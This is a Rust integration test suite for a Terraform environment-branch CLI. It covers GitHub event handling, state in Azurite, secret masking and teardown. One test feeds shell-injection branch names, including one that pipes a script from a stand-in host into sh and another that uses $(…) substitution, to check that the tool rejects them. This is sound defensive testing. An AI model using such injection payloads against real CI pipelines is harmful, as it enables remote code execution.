//! The env-branch pipeline (`run`, `up`, `plan`, `down`) with real GitHub event
//! payloads, real Terraform, real Azurite and real git repositories.

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use crate::support::{Azurite, Out, Project, block_on};

const KEY: &str = "alice.terraform.tfstate";

/// A small app stack: NubesGen-shaped variables plus tags and a size knob.
const APP_STACK: &str = r#"
terraform {
  backend "azurerm" {}
}

variable "environment" {
  type = string
}

variable "tags" {
  type    = map(string)
  default = {}
}

variable "size" {
  type    = string
  default = "S"
}

resource "terraform_data" "app" {
  input = "${var.environment}-${var.size}"
}

resource "terraform_data" "tagged" {
  input = var.tags
}

output "application_url" {
  value = "https://app-${var.environment}.example.test"
}

output "resource_group" {
  value = "rg-demo-${var.environment}"
}

output "db_password" {
  value     = "pw-${var.environment}-s3cr3t"
  sensitive = true
}
"#;

pub(crate) fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/events")
        .join(name)
}

/// A project whose Terraform runs through a wrapper that logs every invocation, so a
/// test can tell whether Terraform ran at all.
pub(crate) fn app_project(az: &Azurite, extra_toml: &str) -> Project {
    let mut p = Project::on(
        az,
        &format!("[terraform]\nbinary = \"./terraform-wrapper.sh\"\n{extra_toml}"),
    );
    std::fs::write(p.path().join("terraform/main.tf"), APP_STACK).unwrap();
    let real = which::which("terraform").expect("terraform on PATH");
    let log = p.path().join("terraform-calls.log");
    let wrapper = p.path().join("terraform-wrapper.sh");
    std::fs::write(
        &wrapper,
        format!(
            "#!/bin/sh\necho \"$1\" >> '{}'\nexec '{}' \"$@\"\n",
            log.display(),
            real.display()
        ),
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&wrapper, std::fs::Permissions::from_mode(0o755)).unwrap();
    p.set_env("GITHUB_ACTIONS", "true");
    p.set_env("CI", "true");
    p.set_env("GITHUB_ACTOR", "alice");
    p.set_env("GITHUB_RUN_ID", "4242");
    p.set_env("GITHUB_SERVER_URL", "https://github.com");
    p.set_env("GITHUB_REPOSITORY", "octo-org/petclinic");
    p
}

pub(crate) fn terraform_calls(p: &Project) -> Vec<String> {
    std::fs::read_to_string(p.path().join("terraform-calls.log"))
        .unwrap_or_default()
        .lines()
        .map(str::to_string)
        .collect()
}

/// Run `nubes run` for an event, with fresh $GITHUB_OUTPUT and $GITHUB_STEP_SUMMARY.
pub(crate) fn event(
    p: &mut Project,
    name: &str,
    payload: &Path,
    sha: &str,
) -> (Out, String, String) {
    let out_file = p.path().join(format!("gh-output-{}", uuid()));
    let sum_file = p.path().join(format!("gh-summary-{}", uuid()));
    p.set_env("GITHUB_EVENT_NAME", name);
    p.set_env("GITHUB_EVENT_PATH", payload.to_str().unwrap());
    p.set_env("GITHUB_SHA", sha);
    p.set_env("GITHUB_OUTPUT", out_file.to_str().unwrap());
    p.set_env("GITHUB_STEP_SUMMARY", sum_file.to_str().unwrap());
    let out = p.run(&["run"]);
    let outputs = std::fs::read_to_string(&out_file).unwrap_or_default();
    let summary = std::fs::read_to_string(&sum_file).unwrap_or_default();
    (out, outputs, summary)
}

fn uuid() -> String {
    uuid::Uuid::new_v4().to_string()
}

/// Value of a `name<<delim` entry in a $GITHUB_OUTPUT file (the last one wins).
pub(crate) fn gh_output(file: &str, name: &str) -> Option<String> {
    let mut lines = file.lines();
    let mut found = None;
    while let Some(line) = lines.next() {
        if let Some(delim) = line.strip_prefix(&format!("{name}<<")) {
            let mut value = Vec::new();
            for l in lines.by_ref() {
                if l == delim {
                    break;
                }
                value.push(l);
            }
            found = Some(value.join("\n"));
        }
    }
    found
}

pub(crate) fn state(az: &Azurite) -> Option<serde_json::Value> {
    let r = block_on(az.blobs().get("tfstate", KEY));
    (r.status == 200 && !r.body.is_empty()).then(|| serde_json::from_slice(&r.body).unwrap())
}

fn attr(state: &serde_json::Value, resource: &str) -> serde_json::Value {
    state["resources"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["name"] == resource)
        .map(|r| r["instances"][0]["attributes"]["input"]["value"].clone())
        .unwrap_or_default()
}

#[test]
fn push_creates_fast_path_on_unchanged_push_applies_a_change_delete_tears_down() {
    let az = Azurite::https();
    let mut p = app_project(&az, "");
    let push = fixture("push.json");

    // 1. First push: the environment is created.
    let (out, outputs, summary) = event(
        &mut p,
        "push",
        &push,
        "6113728f27ae82c7b1a177c8d03f9e96e0adf246",
    );
    let out = out.ok();
    let st = state(&az).expect("state written");
    assert_eq!(attr(&st, "app"), "alice-S");
    assert_eq!(attr(&st, "tagged")["nubes-env"], "alice");
    assert_eq!(attr(&st, "tagged")["nubes-project"], "demo");
    assert_eq!(attr(&st, "tagged")["nubes-branch"], "env-alice");
    assert_eq!(gh_output(&outputs, "environment").as_deref(), Some("alice"));
    assert_eq!(
        gh_output(&outputs, "application_url").as_deref(),
        Some("https://app-alice.example.test")
    );
    assert_eq!(
        gh_output(&outputs, "resource_group").as_deref(),
        Some("rg-demo-alice")
    );
    assert_eq!(gh_output(&outputs, "changes").as_deref(), Some("true"));
    assert!(
        summary.contains("nubes up `alice`") && summary.contains("terraform_data.app"),
        "{summary}"
    );
    assert!(
        out.stderr
            .contains("::group::terraform apply for env alice")
            && out.stderr.contains("::endgroup::")
    );
    // The sensitive output is masked, and appears nowhere but in the mask command.
    assert!(
        out.stderr.contains("::add-mask::pw-alice-s3cr3t"),
        "{}",
        out.stderr
    );
    assert_eq!(
        out.stderr.matches("pw-alice-s3cr3t").count(),
        1,
        "only in the mask command"
    );
    assert!(
        !out.stdout.contains("pw-alice-s3cr3t")
            && !summary.contains("pw-alice-s3cr3t")
            && !outputs.contains("pw-alice-s3cr3t")
    );
    let props = block_on(az.blobs().properties("tfstate", KEY));
    assert_eq!(
        props.meta("nubescommit"),
        Some("6113728f27ae82c7b1a177c8d03f9e96e0adf246")
    );
    assert_eq!(props.meta("nubesbranch"), Some("env-alice"));
    assert_eq!(props.meta("nubesactor"), Some("alice"));
    assert!(props.meta("nubesfingerprint").is_some() && props.meta("nubesappliedat").is_some());
    let calls_after_first = terraform_calls(&p).len();
    assert!(
        calls_after_first >= 4,
        "init, plan, show, apply: {:?}",
        terraform_calls(&p)
    );

    // 2. Same config pushed again: fast path, no Terraform process, outputs still emitted.
    let serial = state(&az).unwrap()["serial"].clone();
    let (out, outputs, _) = event(
        &mut p,
        "push",
        &push,
        "7223728f27ae82c7b1a177c8d03f9e96e0adf246",
    );
    out.ok();
    assert_eq!(
        terraform_calls(&p).len(),
        calls_after_first,
        "the fast path started Terraform: {:?}",
        terraform_calls(&p)
    );
    assert_eq!(
        gh_output(&outputs, "application_url").as_deref(),
        Some("https://app-alice.example.test")
    );
    assert_eq!(gh_output(&outputs, "changes").as_deref(), Some("false"));
    assert_eq!(state(&az).unwrap()["serial"], serial);

    // 3. A variable changes: exactly that change is applied.
    let toml = std::fs::read_to_string(p.path().join("nubes.toml")).unwrap();
    std::fs::write(
        p.path().join("nubes.toml"),
        format!("{toml}\n[environments.alice]\nvars = {{ size = \"L\" }}\n"),
    )
    .unwrap();
    let (out, outputs, summary) = event(
        &mut p,
        "push",
        &push,
        "8333728f27ae82c7b1a177c8d03f9e96e0adf246",
    );
    let out = out.ok();
    assert!(
        out.stdout
            .contains("0 to add, 1 to change, 0 to destroy, 0 to replace"),
        "{}",
        out.stdout
    );
    assert!(
        summary.contains("`terraform_data.app`") && !summary.contains("`terraform_data.tagged`"),
        "{summary}"
    );
    assert_eq!(gh_output(&outputs, "changes").as_deref(), Some("true"));
    assert_eq!(attr(&state(&az).unwrap(), "app"), "alice-L");

    // 4. The branch is deleted: torn down, tombstone kept.
    let (out, _, summary) = event(&mut p, "delete", &fixture("delete.json"), "");
    let out = out.ok();
    assert!(out.stdout.contains("torn down"), "{}", out.stdout);
    assert!(summary.contains("nubes down `alice`"));
    assert!(state(&az).is_none(), "state blob deleted");
    let listing = block_on(az.blobs().list("tfstate", "metadata"));
    assert!(
        listing.contains("alice.terraform.tfstate.tombstone."),
        "{listing}"
    );

    // 5. Deleted again: a clean no-op.
    let (out, _, _) = event(&mut p, "delete", &fixture("delete.json"), "");
    let out = out.ok();
    assert!(
        out.stdout.contains("nothing to tear down"),
        "{}",
        out.stdout
    );
    let listing = block_on(az.blobs().list("tfstate", ""));
    assert!(
        !listing.contains(&format!("<Name>{KEY}</Name>")),
        "no placeholder left: {listing}"
    );
}

#[test]
fn nubesgen_project_runs_unchanged_and_keeps_its_baked_in_defaults() {
    let az = Azurite::https();
    let mut p = Project::new(
        "",
        &[(
            "main.tf",
            r#"
terraform {
  backend "azurerm" {}
}
variable "environment" {
  type = string
}
variable "application_name" {
  type    = string
  default = "petclinic-nubesgen"
}
variable "location" {
  type    = string
  default = "westeurope"
}
variable "terraform_storage_account" {
  type        = string
  description = "NubesGen declares it without a default"
}
resource "terraform_data" "rg" {
  input = "rg-${var.application_name}-${var.environment}-${var.location}-${var.terraform_storage_account}"
}
output "resource_group" {
  value = terraform_data.rg.output
}
"#,
        )],
    );
    for (k, v) in az.nubes_env() {
        p.set_env(&k, &v);
    }
    let out = p.run(&["up", "alice"]).ok();
    assert!(
        out.stdout
            .contains("rg-petclinic-nubesgen-alice-westeurope-devstoreaccount1"),
        "{}",
        out.stdout
    );
    let tfvars =
        std::fs::read_to_string(p.path().join(".nubes/work/alice/nubes.auto.tfvars.json")).unwrap();
    assert!(
        !tfvars.contains("application_name") && !tfvars.contains("location"),
        "defaults must not be overridden: {tfvars}"
    );
    // The state lives where NubesGen's own workflow keeps it.
    assert!(state(&az).is_some());
}

#[test]
fn pull_request_into_an_env_branch_plans_writes_the_summary_and_never_applies() {
    let az = Azurite::https();
    let mut p = app_project(&az, "");
    let (out, _, _) = event(
        &mut p,
        "push",
        &fixture("push.json"),
        "6113728f27ae82c7b1a177c8d03f9e96e0adf246",
    );
    out.ok();
    let before = block_on(az.blobs().get("tfstate", KEY)).body;

    std::fs::write(
        p.path().join("nubes.toml"),
        format!(
            "{}\n[environments.alice]\nvars = {{ size = \"XL\" }}\n",
            std::fs::read_to_string(p.path().join("nubes.toml")).unwrap()
        ),
    )
    .unwrap();
    let (out, outputs, summary) = event(
        &mut p,
        "pull_request",
        &fixture("pull_request.json"),
        "ec26c3e57ca3a959ca5aad62de7213c562f8c821",
    );
    let out = out.ok();
    assert!(
        summary.contains("Plan for `alice`")
            && summary.contains("| 0 | 1 | 0 | 0 |")
            && summary.contains("`terraform_data.app`"),
        "{summary}"
    );
    assert_eq!(gh_output(&outputs, "changes").as_deref(), Some("true"));
    assert!(
        !terraform_calls(&p).iter().skip(4).any(|c| c == "apply"),
        "a plan applied: {:?}",
        terraform_calls(&p)
    );
    assert!(out.stdout.contains("1 to change"), "{}", out.stdout);
    assert_eq!(
        block_on(az.blobs().get("tfstate", KEY)).body,
        before,
        "state unchanged by a plan"
    );
}

#[test]
fn bad_branch_names_from_events_exit_2_and_create_nothing() {
    let az = Azurite::https();
    let mut p = app_project(&az, "");
    for (branch, rule) in [
        ("env-Alice", "uppercase"),
        ("env-a_b", "`_`"),
        ("env-", "nothing after"),
        ("env-this-name-is-far-too-long-for-azure", "limit is 20"),
        ("env-a;curl${IFS}evil.example|sh", "`;`"),
        ("env-$(touch${IFS}pwned)", "`$`"),
    ] {
        let payload = p.path().join("bad-push.json");
        let mut doc: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(fixture("push.json")).unwrap()).unwrap();
        doc["ref"] = format!("refs/heads/{branch}").into();
        std::fs::write(&payload, doc.to_string()).unwrap();
        let (out, _, _) = event(
            &mut p,
            "push",
            &payload,
            "6113728f27ae82c7b1a177c8d03f9e96e0adf246",
        );
        let out = out.code(2);
        assert!(out.stderr.contains(rule), "{branch}: {}", out.stderr);
        assert!(out.stderr.contains("::error"), "annotated: {}", out.stderr);
    }
    assert!(terraform_calls(&p).is_empty());
    let listing = block_on(az.blobs().list("tfstate", ""));
    assert!(!listing.contains("<Blob>"), "nothing created: {listing}");
    assert!(!p.path().join("pwned").exists());
}

#[test]
fn protected_env_is_not_torn_down_without_force_even_by_a_delete_event() {
    let az = Azurite::https();
    // Not about reviewed plans (on by default for protected environments): the push
    // below has no pull request behind it.
    let mut p = app_project(
        &az,
        "[environments.alice]\nprotected = true\nrequire_reviewed_plan = false\n",
    );
    event(
        &mut p,
        "push",
        &fixture("push.json"),
        "6113728f27ae82c7b1a177c8d03f9e96e0adf246",
    )
    .0
    .ok();
    let (out, _, _) = event(&mut p, "delete", &fixture("delete.json"), "");
    let out = out.code(2);
    assert!(
        out.stderr.contains("protected") && out.stderr.contains("::error"),
        "{}",
        out.all()
    );
    assert!(state(&az).is_some(), "state kept");
    let out = p.run(&["down", "alice"]).code(2);
    assert!(out.stderr.contains("--force"));
    p.run(&["down", "alice", "--force"]).ok();
    assert!(state(&az).is_none());
}

#[test]
fn other_events_and_non_env_branches_have_nothing_to_do() {
    let az = Azurite::https();
    let mut p = app_project(&az, "");
    let (out, _, _) = event(&mut p, "issues", &fixture("issues.json"), "");
    assert!(
        out.ok()
            .stdout
            .contains("nothing to do: the `issues` event")
    );
    let payload = p.path().join("main-push.json");
    let mut doc: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(fixture("push.json")).unwrap()).unwrap();
    doc["ref"] = "refs/heads/main".into();
    std::fs::write(&payload, doc.to_string()).unwrap();
    let (out, _, _) = event(&mut p, "push", &payload, "");
    assert!(out.ok().stdout.contains("not an `env-*` branch"));
    assert!(terraform_calls(&p).is_empty());
}

#[test]
fn workflow_dispatch_runs_the_requested_action() {
    let az = Azurite::https();
    let mut p = app_project(&az, "");
    let (out, _, summary) = event(
        &mut p,
        "workflow_dispatch",
        &fixture("workflow_dispatch.json"),
        "6113728f27ae82c7b1a177c8d03f9e96e0adf246",
    );
    out.ok();
    assert!(summary.contains("Plan for `alice`"), "{summary}");
    assert!(state(&az).is_none(), "plan never applies");
    let payload = p.path().join("bad-dispatch.json");
    std::fs::write(
        &payload,
        r#"{"inputs":{"environment":"alice","action":"destroy-everything"}}"#,
    )
    .unwrap();
    let (out, _, _) = event(&mut p, "workflow_dispatch", &payload, "");
    assert!(out.code(2).stderr.contains("up, plan, down"));
}

#[test]
fn outside_actions_run_uses_the_current_git_branch() {
    let az = Azurite::https();
    let mut p = Project::on(&az, "");
    std::fs::write(p.path().join("terraform/main.tf"), APP_STACK).unwrap();
    let repo = git2::Repository::init(p.path()).unwrap();
    let sig = git2::Signature::now("Alice", "alice@example.com").unwrap();
    let mut index = repo.index().unwrap();
    index.add_path(Path::new("nubes.toml")).unwrap();
    index.add_path(Path::new("terraform/main.tf")).unwrap();
    index.write().unwrap();
    let tree = repo.find_tree(index.write_tree().unwrap()).unwrap();
    let commit = repo
        .commit(Some("HEAD"), &sig, &sig, "init", &tree, &[])
        .unwrap();
    let out = p.run(&["run"]).ok();
    assert!(
        out.stdout.contains("nothing to do") && out.stdout.contains("not an `env-*` branch"),
        "{}",
        out.stdout
    );

    let c = repo.find_commit(commit).unwrap();
    repo.branch("env-alice", &c, false).unwrap();
    repo.set_head("refs/heads/env-alice").unwrap();
    p.unset_env("GITHUB_EVENT_NAME");
    let out = p.run(&["run"]).ok();
    assert!(
        out.stdout.contains("app-alice.example.test"),
        "{}",
        out.stdout
    );
    let props = block_on(az.blobs().properties("tfstate", KEY));
    assert_eq!(
        props.meta("nubescommit").map(str::to_string),
        Some(commit.to_string())
    );
}

#[test]
fn plan_json_is_clean_on_stdout_and_detailed_exitcode_reports_changes() {
    let az = Azurite::https();
    let p = app_project(&az, "");
    let out = p
        .run(&["plan", "alice", "--json", "--detailed-exitcode"])
        .code(4);
    let doc: serde_json::Value =
        serde_json::from_str(&out.stdout).expect("stdout is only the JSON summary");
    assert_eq!(doc["changes"], true);
    assert_eq!(doc["summary"]["add"], 2);
    p.run(&["up", "alice"]).ok();
    let out = p.run(&["plan", "alice", "--detailed-exitcode"]).ok();
    assert!(out.stdout.contains("No changes."));
    let out = p.run(&["plan", "alice", "--markdown"]).ok();
    assert!(out.stdout.starts_with("### Plan for `alice`"));
}

#[test]
fn refresh_forces_a_plan_on_an_unchanged_env() {
    let az = Azurite::https();
    let p = app_project(&az, "");
    p.run(&["up", "alice"]).ok();
    let n = terraform_calls(&p).len();
    p.run(&["up", "alice"]).ok();
    assert_eq!(terraform_calls(&p).len(), n);
    p.run(&["up", "alice", "--refresh"]).ok();
    assert!(terraform_calls(&p).len() > n);
}

#[test]
fn template_errors_name_the_file_line_and_variable() {
    let az = Azurite::https();
    let p = app_project(&az, "");
    std::fs::write(
        p.path().join("terraform/extra.tf.tera"),
        "locals {\n  a = \"{{ env }}\"\n  b = \"{{ nonsense }}\"\n}\n",
    )
    .unwrap();
    let out = p.run(&["up", "alice"]).code(2);
    assert!(
        out.stderr.contains("extra.tf.tera:3") && out.stderr.contains("nonsense"),
        "{}",
        out.stderr
    );
    std::fs::write(p.path().join("terraform/extra.tf.tera"), "locals {\n  a = \"{{ env }}-{{ tags['nubes-branch'] }}-{{ project }}\"\n}\noutput \"rendered\" {\n  value = local.a\n}\n").unwrap();
    let out = p.run(&["up", "alice"]).ok();
    assert!(
        out.stdout.contains("rendered = alice-env-alice-demo"),
        "{}",
        out.stdout
    );
}

#[test]
fn sigterm_during_up_interrupts_terraform_and_releases_the_lock() {
    let az = Azurite::https();
    let mut p = app_project(&az, "");
    std::fs::write(
        p.path().join("terraform/slow.tf"),
        "resource \"terraform_data\" \"slow\" {\n  provisioner \"local-exec\" {\n    command = \"sleep 31\"\n  }\n}\n",
    )
    .unwrap();
    p.unset_env("GITHUB_ACTIONS");
    let child = p.spawn(&["up", "alice"]);
    let start = Instant::now();
    while !std::fs::read_to_string(p.path().join("terraform-calls.log"))
        .unwrap_or_default()
        .contains("apply")
    {
        assert!(
            start.elapsed() < Duration::from_secs(60),
            "apply never started"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    std::thread::sleep(Duration::from_secs(2));
    // SAFETY: signalling our own child.
    unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
    let out: Out = child.wait_with_output().unwrap().into();
    let _ = std::process::Command::new("pkill")
        .args(["-f", "sleep 31"])
        .status();
    assert_eq!(out.code, 1, "{}", out.all());
    assert!(
        out.stderr.contains("interrupted by SIGTERM"),
        "{}",
        out.stderr
    );
    let props = block_on(az.blobs().properties("tfstate", KEY));
    assert_eq!(
        props.headers.get("x-ms-lease-state").map(String::as_str),
        Some("available"),
        "lock released"
    );
    let st = state(&az).expect("the interrupted apply saved its state");
    assert!(st["lineage"].is_string());
    assert!(
        props.meta("nubesfingerprint").is_none(),
        "an interrupted apply is not recorded as applied"
    );
    p.run(&["up", "alice"]).ok();
}

#[test]
fn down_by_resource_group_deletes_the_tagged_groups_through_arm_then_drops_state() {
    use crate::arm::fake::{FakeArm, Script, group};
    let az = Azurite::https();
    let mut p = app_project(&az, "");
    p.run(&["up", "alice"]).ok();
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let token = "arm-token-for-the-down-test";
    let fake = runtime.block_on(FakeArm::start(
        token,
        10,
        vec![
            group(
                "rg-demo-alice",
                "alice",
                "demo",
                Script::AsyncOperation {
                    in_progress: 1,
                    end: crate::arm::fake::End::Succeeded,
                },
            ),
            group("rg-demo-alice-data", "alice", "demo", Script::Throttled),
            group(
                "rg-other-alice",
                "alice",
                "other-project",
                Script::Immediate,
            ),
        ],
    ));
    p.set_env("NUBES_ARM_ENDPOINT", &fake.endpoint);
    p.set_env("NUBES_ARM_TOKEN", token);
    p.set_env("ARM_SUBSCRIPTION_ID", crate::arm::fake::SUBSCRIPTION);
    let out = p
        .run(&["down", "alice", "--strategy", "resource-group"])
        .ok();
    assert!(out.stdout.contains("torn down"), "{}", out.all());
    assert_eq!(fake.deleted(), ["rg-demo-alice", "rg-demo-alice-data"]);
    assert!(state(&az).is_none());
    assert!(!out.all().contains(token));
    assert!(
        !terraform_calls(&p).iter().any(|c| c == "destroy"),
        "no Terraform destroy"
    );

    // A failed deletion keeps the state for a rerun.
    p.run(&["up", "alice"]).ok();
    let fake = runtime.block_on(FakeArm::start(
        token,
        10,
        vec![group(
            "rg-demo-alice",
            "alice",
            "demo",
            Script::AsyncOperation {
                in_progress: 0,
                end: crate::arm::fake::End::Failed("ResourceGroupDeletionBlocked".into()),
            },
        )],
    ));
    p.set_env("NUBES_ARM_ENDPOINT", &fake.endpoint);
    let out = p
        .run(&["down", "alice", "--strategy", "resource-group"])
        .code(1);
    assert!(
        out.stderr.contains("state was kept")
            && out.stderr.contains("ResourceGroupDeletionBlocked"),
        "{}",
        out.stderr
    );
    assert!(state(&az).is_some());
}
